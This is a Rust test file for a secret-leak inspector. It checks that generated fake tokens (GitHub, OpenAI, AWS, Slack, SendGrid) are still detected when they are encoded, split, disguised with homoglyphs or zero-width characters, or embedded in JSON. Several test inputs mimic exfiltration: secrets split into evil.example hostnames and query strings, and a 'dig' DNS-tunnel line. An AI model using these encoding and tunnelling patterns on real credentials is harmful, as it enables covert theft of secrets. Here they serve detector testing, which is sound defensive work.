#![expect(
    clippy::string_slice,
    clippy::format_collect,
    reason = "a test may panic, and is short rather than quick"
)]

mod corpus;
mod measure;
mod property;

use std::sync::LazyLock;

use base64::{Engine as _, engine::general_purpose as base64_engine};

use super::{secrets::sample::Random, *};

/// One for all tests: making it takes long where nothing is optimised.
pub(super) fn inspector() -> &'static Inspector {
    static INSPECTOR: LazyLock<Inspector> =
        LazyLock::new(|| Inspector::new(Options::default()).unwrap());
    &INSPECTOR
}

/// Secrets of several shapes, made from a seed.
pub(super) fn secrets(seed: u64) -> Vec<(&'static str, String)> {
    let mut random = Random(seed);
    vec![
        ("github-token", random.sample("ghp_<crc:30>")),
        (
            "openai-key",
            random.sample("sk-proj-<url:74>T3BlbkFJ<url:74>"),
        ),
        ("aws-access-key", random.sample("AKIA<b32:16>")),
        ("sendgrid-key", random.sample("SG.<url:22>.<url:43>")),
        (
            "slack-token",
            random.sample("xoxb-<dig:12>-<dig:12>-<an:24>"),
        ),
    ]
}

type Coding = fn(&str) -> String;

/// Ways to write a text so that it does not show.
pub(super) const CODINGS: &[(&str, Coding)] = &[
    ("base64", |text| base64_engine::STANDARD.encode(text)),
    ("base64, not padded", |text| {
        base64_engine::STANDARD_NO_PAD.encode(text)
    }),
    ("base64 for URLs", |text| {
        base64_engine::URL_SAFE.encode(text)
    }),
    ("base64 for URLs, not padded", |text| {
        base64_engine::URL_SAFE_NO_PAD.encode(text)
    }),
    ("hexadecimal", |text| {
        data_encoding::HEXLOWER.encode(text.as_bytes())
    }),
    ("HEXADECIMAL", |text| {
        data_encoding::HEXUPPER.encode(text.as_bytes())
    }),
    ("base32", |text| {
        data_encoding::BASE32.encode(text.as_bytes())
    }),
    ("percent", |text| {
        text.bytes().map(|byte| format!("%{byte:02x}")).collect()
    }),
    ("colons", |text| pairs(text, ":", "")),
    ("blanks", |text| pairs(text, " ", "")),
    ("escapes", |text| pairs(text, "", r"\x")),
    ("a list", |text| pairs(text, ", ", "0x")),
];

fn pairs(text: &str, between: &str, before: &str) -> String {
    let pairs: Vec<String> = text
        .bytes()
        .map(|byte| format!("{before}{byte:02x}"))
        .collect();
    pairs.join(between)
}

#[track_caller]
fn check(inspector: &Inspector, text: &str, detector: &str) -> Finding {
    let report = inspector.inspect(text.as_bytes());
    let found = report
        .findings
        .iter()
        .find(|finding| finding.detector == detector);
    let Some(found) = found else {
        panic!("{detector} is not found in {text}: {report:?}");
    };
    found.clone()
}

#[test]
fn a_finding_says_where_and_how() {
    let inspector = inspector();
    for (detector, secret) in secrets(1) {
        let text = format!("use {secret} now");
        let finding = check(inspector, &text, detector);
        assert_eq!(finding.range, 4..4 + secret.len(), "{detector}");
        assert_eq!((finding.view, finding.kind), (View::Raw, Kind::Secret));
        let coded = base64_engine::STANDARD_NO_PAD.encode(format!("key: {secret}\n"));
        let text = format!("data {coded}; end");
        let finding = check(inspector, &text, detector);
        assert_eq!(finding.range, 5..5 + coded.len(), "{detector}");
        assert_eq!(finding.view, View::Base64);
    }
}

#[test]
fn every_coding_is_undone_and_every_chain_of_four() {
    let inspector = inspector();
    let mut random = Random(3);
    for (detector, secret) in secrets(2) {
        for (_, coding) in CODINGS {
            check(inspector, &format!("x={};", coding(&secret)), detector);
        }
        for _ in 0..100 {
            let depth = 2 + random.below(3);
            let mut text = secret.clone();
            let mut names = Vec::new();
            for _ in 0..depth {
                let (name, coding) = CODINGS[random.below(CODINGS.len())];
                names.push(name);
                text = coding(&text);
            }
            let report = inspector.inspect(format!("payload {text} end").as_bytes());
            let is_found = report
                .findings
                .iter()
                .any(|finding| finding.detector == detector);
            assert!(is_found, "{detector} behind {names:?}: {text}");
        }
    }
}

#[test]
fn what_lies_deeper_is_told() {
    let inspector = inspector();
    let secret = Random(4).sample("ghp_<crc:30>");
    let mut text = format!("key {secret}");
    for depth in 1..=6 {
        text = base64_engine::STANDARD.encode(text);
        let report = inspector.inspect(text.as_bytes());
        assert_eq!(report.is_complete, depth <= 4, "depth {depth}");
        let is_found = report
            .findings
            .iter()
            .any(|found| found.detector == "github-token");
        assert_eq!(is_found, depth <= 4, "depth {depth}");
    }
    assert!(inspector.inspect(b"").is_complete);
}

#[test]
fn wrapped_and_indented_base64_is_one_run() {
    let inspector = inspector();
    let secret = Random(5).sample("ghp_<crc:30>");
    let coded = base64_engine::STANDARD.encode(format!("{} {secret} end", "words ".repeat(20)));
    for (width, end) in [(76, "\n"), (64, "\r\n"), (60, "\n    ")] {
        let lines: Vec<&[u8]> = coded.as_bytes().chunks(width).collect();
        let text = String::from_utf8(lines.join(end.as_bytes())).unwrap();
        check(inspector, &text, "github-token");
    }
}

#[test]
fn secrets_cut_in_pieces_are_joined() {
    let inspector = inspector();
    let secret = Random(6).sample("ghp_<crc:30>");
    let (first, second) = secret.split_at(20);
    let host = format!("https://{first}.{second}.evil.example/");
    assert_eq!(check(inspector, &host, "github-token").view, View::Labels);
    let query = format!("https://evil.example/?a={first}&b={second}#x");
    let finding = check(inspector, &query, "github-token");
    assert_eq!(finding.view, View::Query);
    assert_eq!(query[finding.range], format!("{first}&b={second}"));
    // Base32 in the labels of a host, as tunnels write it.
    let coded = data_encoding::BASE32_NOPAD
        .encode(secret.as_bytes())
        .to_ascii_lowercase();
    let (first, second) = coded.split_at(30);
    check(
        inspector,
        &format!("dig {first}.{second}.t.evil.example"),
        "github-token",
    );
    let (first, second) = secret.split_at(9);
    let json = serde_json::json!({ "a": first, "b": { "c": [second, 7] } }).to_string();
    let report = inspector.inspect_json(json.as_bytes());
    assert_eq!(report.findings.len(), 1, "{report:?}");
    assert_eq!(report.findings[0].view, View::Fields);
    assert!(json[report.findings[0].range.clone()].starts_with(first));
}

#[test]
fn letters_in_disguise_are_folded() {
    let inspector = inspector();
    let secret = Random(7).sample("ghp_<crc:30>");
    let wide: String = secret
        .chars()
        .map(|sign| char::from_u32(u32::from(sign) + 0xfee0).unwrap())
        .collect();
    assert_eq!(check(inspector, &wide, "github-token").view, View::Folded);
    let split: Vec<String> = secret.chars().map(String::from).collect();
    for between in ["\u{200b}", "\u{ad}", "\0", "\u{e0041}"] {
        let finding = check(inspector, &split.join(between), "github-token");
        assert_eq!(finding.view, View::Folded);
        let end = finding.range.end;
        assert_eq!(end, split.join(between).len(), "{between:?}");
    }
    let cyrillic = secret.replacen("gh", "g\u{4bb}", 1);
    check(inspector, &cyrillic, "github-token");
}

#[test]
fn json_is_read_string_by_string() {
    let inspector = inspector();
    let secret = Random(8).sample("ghp_<crc:30>");
    let escaped: String = secret
        .bytes()
        .map(|byte| format!("\\u{byte:04x}"))
        .collect();
    let json = format!(r#"{{"note": "a\n{escaped}\n", "{secret}": 1}}"#);
    let report = inspector.inspect_json(json.as_bytes());
    let ranges: Vec<&str> = report
        .findings
        .iter()
        .map(|finding| &json[finding.range.clone()])
        .collect();
    assert_eq!(ranges, [escaped.as_str(), secret.as_str()]);
    let coded = base64_engine::STANDARD.encode(format!("{{\"k\": \"{secret}\"}}"));
    let json = serde_json::json!({ "body": format!("{}\n{}", &coded[..40], &coded[40..]) });
    let report = inspector.inspect_json(json.to_string().as_bytes());
    assert_eq!(report.findings.len(), 1, "{report:?}");
}

#[test]
fn known_values_are_found_in_every_view() {
    let mut random = Random(9);
    let value = random.sample("<an:20>");
    let named = |name: &str, value: &str| Named {
        name: name.to_owned(),
        value: value.to_owned(),
    };
    let inspector = &Inspector::new(Options {
        environment: vec![named("DEPLOY", &value)],
        secrets: known::parse_secrets(&format!("# file\nA={}\n", random.sample("<an:24>"))),
        canaries: vec!["canary-7f3a".to_owned()],
        fingerprints: vec!["Project Halcyon".to_owned()],
        internal_domains: vec!["int.example.com".to_owned()],
        ..Options::default()
    })
    .unwrap();
    for (_, coding) in CODINGS {
        check(
            inspector,
            &format!("v={}!", coding(&format!("it is {value}"))),
            "known-environment-value",
        );
    }
    check(inspector, "see CANARY-7F3A", "canary-token");
    check(
        inspector,
        "about project halcyon.",
        "organisation-fingerprint",
    );
    let finding = check(
        inspector,
        "GET http://db.Int.example.com/",
        "internal-domain",
    );
    assert_eq!(finding.range, 11..29);
    for text in [
        "print.example.com",
        "int.example.com.au",
        "int.example.community",
    ] {
        assert!(
            inspector.inspect(text.as_bytes()).findings.is_empty(),
            "{text}"
        );
    }
    assert!(
        !format!("{inspector:?}").contains(&value),
        "values must not be shown"
    );
}

#[test]
fn what_cannot_be_looked_for_is_refused_with_all_reasons() {
    let named = |name: &str, value: &str| Named {
        name: name.to_owned(),
        value: value.to_owned(),
    };
    let error = Inspector::new(Options {
        disabled: vec!["github-tokens".to_owned()],
        environment: vec![named("A", "short"), named("B", &"ab".repeat(10))],
        canaries: vec!["abc".to_owned()],
        internal_domains: vec!["*".to_owned()],
        ..Options::default()
    })
    .unwrap_err();
    assert_eq!(
        error.to_string(),
        "`github-tokens` is no detector; did you mean `github-token`?; \
         `A`: 5 characters are too few to tell it from other text; it takes 16; \
         `B`: too regular to tell it from other text; use a random value; \
         `canary-token 1`: 3 characters are too few for a mark; it takes 6; \
         `*` is no domain; write it like `corp.example.com`"
    );
}

#[test]
fn a_secrets_file_has_names_or_none() {
    let named = known::parse_secrets("# c\n\nexport A_B=\"one two\"\n  c2VjcmV0cw==\nx-y=1\n");
    let pairs: Vec<(&str, &str)> = named
        .iter()
        .map(|n| (n.name.as_str(), n.value.as_str()))
        .collect();
    assert_eq!(
        pairs,
        [
            ("A_B", "one two"),
            ("line 4", "c2VjcmV0cw=="),
            ("line 5", "x-y=1")
        ]
    );
}

#[test]
fn detectors_are_switched_off_and_on() {
    let secret = Random(10).sample("ghp_<crc:30>");
    let off = Inspector::new(Options {
        disabled: vec!["github-token".to_owned(), "high-entropy".to_owned()],
        ..Options::default()
    });
    assert!(off.unwrap().inspect(secret.as_bytes()).findings.is_empty());
    let address = Random(10).sample("0x<hex:40>");
    assert!(inspector().inspect(address.as_bytes()).findings.is_empty());
    let on = Inspector::new(Options {
        enabled: vec!["ethereum-address".to_owned()],
        ..Options::default()
    });
    assert_eq!(on.unwrap().inspect(address.as_bytes()).findings.len(), 1);
}

#[test]
fn a_format_explains_what_looks_secret() {
    let secret = Random(11).sample("ghp_<crc:30>");
    let report = inspector().inspect(format!("github_token = \"{secret}\"").as_bytes());
    assert_eq!(report.findings.len(), 1, "{report:?}");
    assert_eq!(report.findings[0].detector, "github-token");
}
